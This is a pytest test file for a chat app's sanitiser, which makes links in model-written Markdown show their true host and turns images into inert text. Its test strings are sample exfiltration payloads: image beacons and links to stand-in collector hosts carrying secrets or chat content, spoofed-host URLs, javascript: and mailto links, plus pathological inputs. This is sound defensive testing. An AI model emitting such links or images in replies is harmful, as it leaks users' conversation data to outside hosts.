"""Links in model-written Markdown say where they go, and images load nothing.

Checked on the HTML a CommonMark parser renders, and with the bare addresses Streamlit's GFM
renderer (micromark) would link (tests/markdown_view). The cases found by a differential fuzz
against micromark say so.
"""

from __future__ import annotations

import pytest

from tests.leak_pathological import cpu_seconds
from tests.markdown_view import bare_links, links, rendered, shown_text
from ui.inert_links import InertStream, inert_links
from ui.reply_links import MAX_BRACKETS, honest_links
from ui.text import model_markdown, tame_stream

EXFILTRATION = "Here is [your plan](https://example.invalid/?d=Goals%3A%20a%20new%20job) to keep."


def test_the_exfiltration_link_shows_the_host_it_sends_the_chat_to():
    output = honest_links(EXFILTRATION)
    assert links(output) == [
        ("https://example.invalid/?d=Goals%3A%20a%20new%20job", "your plan", "example.invalid")
    ]
    assert "<img" not in rendered(output)


@pytest.mark.parametrize(
    "reply",
    [
        "![](https://collector.example/p.png?d=secret)",
        "Look ![chart](https://collector.example/p.png?d=secret) here",
        "![chart][img]\n\n[img]: https://collector.example/p.png?d=secret",
        "[![chart](https://collector.example/p.png?d=secret)](https://docs.example/)",
        "![local](/static/avatar.png)",
    ],
)
def test_an_image_in_a_reply_renders_as_text_and_loads_nothing(reply):
    output = honest_links(reply)
    assert "<img" not in rendered(output)
    assert "image" in output
    if "collector.example" in reply:
        assert "image: collector.example" in output
        assert "p.png" not in shown_text(output) and "secret" not in shown_text(output)


@pytest.mark.parametrize(
    "reply",
    [
        "Sure! Here is a plan for your week.",
        "## Goals\n\n1. **Update** your CV\n2. _Write_ to `three` people\n\n> Start small.\n",
        "| Day | Task |\n|---|---|\n| Mon | Call *Ana* |\n",
        "```python\nprint('[x](https://c.example)')\nitems[0] < limit\n```\n",
        "Use `a[0]` and `<div>`; note x < y and $x^2$ and :red[hot] and 3 * 4 = 12.",
        "A list:\n\n- [ ] to do\n- [x] done\n",
        "See [the recap](#recap) or [the Lounge](/lounge?tab=mine).",
        "Read https://docs.python.org/3/library/re.html or www.python.org (both as written).",
    ],
)
def test_a_reply_without_off_site_links_or_images_is_unchanged(reply):
    assert honest_links(reply) == reply
    assert model_markdown(reply) == reply


def test_same_site_links_stay_links():
    output = honest_links("[the recap](#recap), [the Lounge](/lounge), [Maya](?assistant_id=x)")
    assert [(href, text) for href, text, _ in links(output)] == [
        ("#recap", "the recap"),
        ("/lounge", "the Lounge"),
        ("?assistant_id=x", "Maya"),
    ]
    assert [after for _, _, after in links(output)] == ["", "", ""]


def test_a_reference_style_link_shows_its_host():
    output = honest_links("Read [the plan][1].\n\n[1]: https://collector.example/?d=secret")
    assert links(output) == [
        ("https://collector.example/?d=secret", "the plan", "collector.example")
    ]


def test_an_autolink_shows_its_whole_address():
    output = honest_links("Go to <https://collector.example/?d=secret> now")
    assert links(output) == [
        ("https://collector.example/?d=secret", "https://collector.example/?d=secret", "")
    ]


def test_a_link_whose_text_begins_with_its_host_is_not_repeated():
    output = honest_links(
        "[docs.python.org](https://docs.python.org/3/) and [x](https://y.example)"
    )
    assert [after for _, _, after in links(output)] == ["", "y.example"]
    deceptive = honest_links("[https://docs.python.org](https://collector.example/?d=x)")
    assert links(deceptive)[0][2] == "collector.example"


@pytest.mark.parametrize(
    ("reply", "shown"),
    [
        ("[write to us](mailto:a@collector.example?body=secret)", "email to a@"),
        ("<mailto:a@collector.example?body=secret>", "mailto:a@"),
        ("[run](javascript:alert(1))", "link removed"),
        ("[plan](https://docs.example@collector.example/?d=x)", "link removed"),
        ("[plan](//collector.example/?d=x)", "link removed"),
        ("[plan](http://[::1]/?d=x)", "link removed"),
    ],
)
def test_a_link_that_cannot_show_its_target_plainly_is_text(reply, shown):
    output = honest_links(reply)
    assert links(output) == [] and bare_links(output) == []
    assert shown in shown_text(output)


@pytest.mark.parametrize(
    "reply",
    [
        "See https://docs.example@collector.example/?d=secret",
        "See www.docs.example@collector.example/?d=secret",
        "See https\\://docs.example@collector.example/?d=secret",  # escaped: decoded, then linked
        "See https&#58;//docs.example@collector.example/?d=secret",  # an entity, likewise
        "See https://collector.example/?d=x`code` then `[a](https://c.example)`",  # fuzz: into code
    ],
)
def test_a_bare_address_that_hides_its_host_is_not_linked(reply):
    assert [link for link in bare_links(honest_links(reply)) if "collector" in reply] == []
    assert "collector.example" in honest_links(reply)  # still readable


def test_a_link_inside_a_quote_list_or_table_shows_its_host():
    reply = (
        "> Read [the\n> plan](https://a.example/x)\n\n"
        "- a [b](https://b.example/)\n  - c [d](https://d.example/)\n\n"
        "| x | y |\n|---|---|\n| [e](https://e.example) | ![f](https://f.example/f.png) |\n"
    )
    output = honest_links(reply)
    assert [after for _, _, after in links(output)] == [
        "a.example",
        "b.example",
        "d.example",
        "e.example",
    ]
    assert "<img" not in rendered(output) and "image: f.example" in output


def test_a_footnote_definition_is_made_inert():
    """Found by fuzzing against micromark: GFM shows a footnote's text, where CommonMark reads a
    link reference definition and shows nothing, so the links in it were left as they were."""
    reply = "A claim[^1].\n\n[^1]: ![p](https://collector.example/p.png) [src](https://c.example)"
    output = honest_links(reply)
    assert output == inert_links(reply)
    assert "<img" not in rendered(output) and links(output) == []


@pytest.mark.cpu_budget
def test_text_with_more_brackets_than_a_reply_has_is_made_inert_without_parsing():
    reply = "![" * (MAX_BRACKETS + 1) + "[a](https://collector.example/)"
    assert honest_links(reply) == inert_links(reply)
    assert cpu_seconds(lambda: honest_links(reply)) < 0.05


@pytest.mark.parametrize(
    "reply",
    [
        "[" * 40_000,
        "![" * 20_000,
        "www." * 10_000,
        "[t](https://e.example/x) " * 1_500,
        "<" * 40_000,
        "&#58;" * 8_000,
        "[^" * 20_000,
    ],
    ids=["brackets", "images", "www", "links", "angles", "entities", "footnote markers"],
)
@pytest.mark.cpu_budget
def test_a_long_pathological_reply_is_made_honest_in_a_fraction_of_a_second(reply):
    """CPU time (best of five): a parse is linear but costs microseconds per character, and
    the GIL is held. The quadratic footnote check took 1.1 s on 20,000 "[^", and parsing
    40,000 "![" 0.7 s; these cost 0.2 s at most."""
    assert cpu_seconds(lambda: honest_links(reply)) < 0.5


def test_inert_links_break_every_link_construct():
    reply = (
        "[a](https://x.example) ![b](https://x.example/p.png) [c][1] <https://x.example> "
        "https://x.example www.x.example https\\://x.example\n\n[1]: https://x.example"
    )
    output = inert_links(reply)
    assert links(output) == [] and bare_links(output) == [] and "<img" not in rendered(output)
    assert output.replace("\u200b", "") == reply


def test_a_stream_cut_anywhere_is_as_inert_as_the_whole_reply():
    reply = "Plan: [a](https://x.example) then https://y.example and www.z.example!\n[1]: /x"
    for cut in range(1, len(reply)):
        stream = InertStream()
        assert stream.feed(reply[:cut]) + stream.feed(reply[cut:]) + stream.close() == (
            inert_links(reply)
        )


def test_a_streamed_exfiltration_link_is_never_a_link():
    chunks = ["Here is [your plan](https://exam", "ple.invalid/?d=Goals) and www", ".x.example"]
    shown = ""
    for text in tame_stream(chunks):
        shown += text
        assert links(shown) == [] and bare_links(shown) == []


def test_a_table_read_as_a_list_item_by_streamlit_is_made_inert():
    """Found by fuzzing against micromark: markdown-it-py reads a table first, so its cells cut
    the link apart, where micromark (GFM) reads a list item with the link whole."""
    reply = "- \\| a | b |\n|---|---|\n| [x|y](https://collector.example/?d=1) |"
    assert honest_links(reply) == inert_links(reply)


def test_indented_text_right_after_a_reference_definition_is_made_inert():
    """Found by fuzzing against micromark: markdown-it-py reads it as code and leaves it, where
    micromark reads it on as paragraph text, with a live image."""
    reply = "[1]: /x\n    ![a](https://collector.example/p.png?d=1)"
    assert honest_links(reply) == inert_links(reply)


def test_an_html_tag_right_after_a_reference_definition_is_made_inert():
    """Found by fuzzing against micromark, as above: an HTML block to markdown-it-py, text to
    micromark."""
    reply = "[r]: /x\n</pre>\n> [t](https://collector.example/?d=1)"
    assert honest_links(reply) == inert_links(reply)
